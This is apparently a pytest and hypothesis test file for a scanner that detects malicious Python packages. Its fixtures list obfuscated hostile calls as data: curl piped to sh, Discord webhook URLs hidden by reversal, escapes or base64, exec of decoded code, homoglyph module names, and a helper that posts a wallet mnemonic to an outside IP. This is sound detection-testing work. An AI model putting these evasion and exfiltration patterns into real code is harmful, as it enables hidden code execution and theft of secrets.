"""The prefilter is lossless: generated programs give the same findings with and without it. Without it every file is
parsed as a whole, and every function is called."""

from __future__ import annotations

import re
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.code.analysis import analyse
from scanner.code.source import SourceFile
from scanner.model.finding import PackageRef

PADDING = ("# " + "padding " * 200 + "\n") * 135  # past the size up to which every file is evaluated anyway
IMPORTS = (
    "import {m}",
    "import {m} as alias",
    "from {m} import {f}",
    "from {m} import {f} as renamed",
    "from {m} import *",
    "alias = __import__('{m}')",
    "import json, {m}",
    "import importlib\nalias = importlib.import_module('{m}')",
    "import importlib\nalias = importlib.import_module('{m1}' + '{m2}')",
    "import  {m}\nalias = {m}",
    "if True:\n    import {m}\n    alias = [{m}][0]",
    "import {m}; alias = {m}",
    "try:\n    import {m} as alias\nexcept ImportError:\n    alias = None",
    "load = __import__\nalias = load('{m1}' + '{m2}')",
    "import sys, {m}\nheld = sys.modules\nalias = held['{m1}' + '{m2}']",
)
CALLS = (
    "{m}.{f}({a})",
    "alias.{f}({a})",
    "{f}({a})",
    "renamed({a})",
    "getattr({m}, '{f}')({a})",
    "getattr(alias, '{f1}' + '{f2}')({a})",
    "getattr({m}, '{f1}' + '{f2}')({a})",
    "{m}.__dict__['{f1}' + '{f2}']({a})",
    "name = '{f1}' + '{f2}'\nvars({m})[name]({a})",
    "x = {m}.{f}\nx({a})",
    "def go():\n    {m}.{f}({a})\ngo()",
    "(lambda: {m}.{f}({a}))()",
    "def later():\n    {m}.{f}({a})",
    "class Later:\n    def run(self):\n        alias.{f}({a})",
    "run = {m}.{f}\ndef later():\n    run({a})",
    "run = lambda x: {m}.{f}(x)\ndef later():\n    run({a})",
    "def send(x):\n    {m}.{f}(x)\ndef later():\n    send({a})",
    "class Later:\n    def send(self, x):\n        {m}.{f}(x)\n    def run(self):\n        self.send({a})",
    "class Sender:\n    def send(self, x):\n        {m}.{f}(x)\ndef later():\n    Sender().send({a})",
    "held = vars({m})\nheld['{f1}' + '{f2}']({a})",
    "held = {m}.__dict__\ndef later():\n    held['{f1}' + '{f2}']({a})",
    "get = getattr\ndef later():\n    get({m}, '{f1}' + '{f2}')({a})",
    "held = {{'a': {m}.{f}}}\ndef later():\n    held['a']({a})",
    "held = dict(a={m})\ndef later():\n    getattr(held['a'], '{f1}' + '{f2}')({a})",
    "import functools\nrun = functools.partial({m}.{f})\ndef later():\n    run({a})",
    "import threading\ndef later():\n    threading.Thread(target={m}.{f}, args=({a},)).start()",
    "class Later:\n    def __call__(self, x):\n        {m}.{f}(x)\nrun = Later()\ndef later():\n    run({a})",
    "class Base:\n    def __init__(self, x):\n        {m}.{f}(x)\nclass A(Base):\n    pass\ndef later():\n    A({a})",
    "def give():\n    yield {m}.{f}\ndef later():\n    for run in give():\n        run({a})",
    "def bind():\n    global run\n    run = {m}.{f}\ndef later():\n    run({a})",
    "def send(x):\n    {m}.{f}(x)\nother = [send]\ndef later():\n    other[0]({a})",
    "def runs(what):\n    return lambda: {m}.{f}(what())\n@runs\ndef later():\n    return {a}",
    "def later(run={m}.{f}):\n    run({a})",
)
ACTS = (
    ("os", "system"),
    ("subprocess", "Popen"),
    ("requests", "post"),
    ("socket", "gethostbyname"),
    ("builtins", "exec"),
    ("pty", "spawn"),
    ("httpx", "get"),
    ("runpy", "run_path"),
    ("urllib.request", "urlopen"),
    ("http.client", "HTTPSConnection"),
)
ARGUMENTS = (
    "'curl https://drop.invalid/x | sh'",
    "'https://discord.com/api/webhooks/1/x'",
    "__import__('base64').b64decode('cHJpbnQoMSk=')",
    "__import__('os').environ",
    "'x'",
    r"'https://discord\x2ecom/api/webh\u006foks/1/x'",
    "'x/1/skoohbew/ipa/moc.drocsid//:sptth'[::-1]",
    "'https://discord' + '.com/api/' 'webhooks/1/x'",
    "__import__('base64').b64decode('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMS94').decode()",
    "bytes([104, 116, 116, 112, 115, 58, 47, 47, 100, 46, 105, 110, 118, 97, 108, 105, 100]).decode()",
    "''.join(chr(one) for one in (99, 117, 114, 108, 32, 45, 100, 32, 64, 47))",
    "hidden()",
    "Holder().text",
    "Holder.made()",
)
HELPERS = '''
def hidden():
    """Says nothing of https://pastebin.com/raw/x or of subprocess."""
    return inner()


def inner():
    value = 'curl https://discord.com/api/webhooks/1/x | sh'
    return value


class Base:
    def made(self=None):
        """A sentence about os.system("x")."""
        return inner()


class Holder(Base):
    text = inner()

    def idle(self):
        one = 1
        two = 2
        return one + two
'''


# Strings that end or begin as docstrings do, so that what stands between them could be taken for one.
AROUND = (
    "{p}",
    'note = """said:\n"""\n{p}\nmore = """\n"""\n',
    '# """\ndef said():\n    """Said:\n    """\n{i}\n    """\nx"""\n',
    'class Said:\n    """Said:"""\n{i}\n',
)
LETTERS = str.maketrans("esopn", "\u212f\u017f\uff4f\U0001d429\u207f")
"""Letters that the interpreter reads as those of ASCII."""


@st.composite
def programs(draw: st.DrawFn) -> str:
    module, name = draw(st.sampled_from(ACTS))
    fill = {
        "m": module,
        "f": name,
        "a": draw(st.sampled_from(ARGUMENTS)),
        "m1": module[:2],
        "m2": module[2:],
        "f1": name[:2],
        "f2": name[2:],
    }
    lines = [draw(st.sampled_from(IMPORTS)).format(**fill), draw(st.sampled_from(CALLS)).format(**fill)]
    if draw(st.booleans()):
        lines.insert(
            1, draw(st.sampled_from(("value = 1", "def helper():\n    return 2", "# a comment about requests")))
        )
    if draw(st.booleans()) or "hidden" in fill["a"] or "Holder" in fill["a"]:
        lines.insert(draw(st.sampled_from((0, 1))), HELPERS)
    program = "\n".join(lines) + "\n"
    if draw(st.integers(0, 3)) == 0:
        spelt = re.compile(rf"(?<![\w'\"])(?:{module}|{name})(?![\w'\"])")
        program = spelt.sub(lambda one: one[0].translate(LETTERS), program)
    inner = textwrap.indent(program, "    ")
    return draw(st.sampled_from(AROUND)).format(p=program, i=inner)


@settings(max_examples=200, deadline=None)
@given(programs())
def test_same_findings_with_and_without(program: str) -> None:
    found = [
        analyse(
            [SourceFile("package/__init__.py", (program + PADDING).encode())],
            kind="wheel",
            package=PackageRef("example", "1.0"),
            prefilter=prefilter,
        ).findings
        for prefilter in (True, False)
    ]
    assert found[0] == found[1]


def test_a_command_of_a_long_setup_script_is_kept_though_nothing_calls_it() -> None:
    # Regression: fonttools' release command was cut out as an idle function.
    idle = "".join(f"def helper_{number}(x):\n    y = x + {number}\n    return y\n\n" for number in range(200))
    script = (
        "import subprocess\nfrom setuptools import setup, Command\nimport requests\n\n"
        + idle
        + "class Release(Command):\n    def run(self):\n        subprocess.check_call(['git', 'tag', 'v1'])\n"
        + "        return None\n\nsetup(name='example', cmdclass={'build_py': Release})\n"
    )
    found = [
        analyse(
            [
                SourceFile("example-1.0/setup.py", script.encode()),
                SourceFile("example-1.0/example/__init__.py", PADDING.encode()),
            ],
            kind="sdist",
            package=PackageRef("example", "1.0"),
            prefilter=prefilter,
        ).findings
        for prefilter in (True, False)
    ]
    assert [one.rule for one in found[0]] == ["install-command"]
    assert found[0] == found[1]


CALLED_BY_ANOTHER = """
import requests

def _log(phrase):
    requests.post("http://203.0.113.7:5000/check", json={"p": phrase})

def balance(mnemonic):
    _log(mnemonic)
    return 0
"""
RENAMED = """
b = exec

def _fit(text, key):
    made = ""
    for place, one in enumerate(text):
        made += chr(ord(one) ^ ord(key[place % len(key)]))
    b(made)

def colour():
    _fit("HIDDEN", "kx")
"""


@pytest.mark.parametrize(
    ("program", "rule"),
    [
        (CALLED_BY_ANOTHER, "private-key-sent"),
        (
            RENAMED.replace(
                "HIDDEN", "".join(f"\\x{ord(one) ^ ord('kx'[at % 2]):02x}" for at, one in enumerate("print(1)"))
            ),
            "decoded-code",
        ),
    ],
    ids=["a wallet's phrase goes to a helper that sends it", "exec under another name"],
)
@pytest.mark.parametrize("padding", ["", PADDING], ids=["small", "large"])
def test_what_a_waiting_function_passes_on_is_followed(program: str, rule: str, padding: str) -> None:
    found = analyse(
        [SourceFile("package/__init__.py", (program + padding).encode())],
        kind="wheel",
        package=PackageRef("example", "1.0"),
    ).findings
    assert [one.rule[: len(rule)] for one in found] == [rule]


def test_a_large_file_of_very_many_pieces_is_followed_to_its_end() -> None:
    # Regression: coloreq's one file assembles its payload in more steps than a file of a library is given.
    pieces = "".join(f"p{number} = 'value {number}'\n" for number in range(8_000))
    program = pieces + "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    found = analyse(
        [SourceFile("package/__init__.py", program.encode())], kind="wheel", package=PackageRef("example", "1.0")
    )
    assert [one.rule for one in found.findings] == ["decoded-code-executed"]
    assert not found.coverage
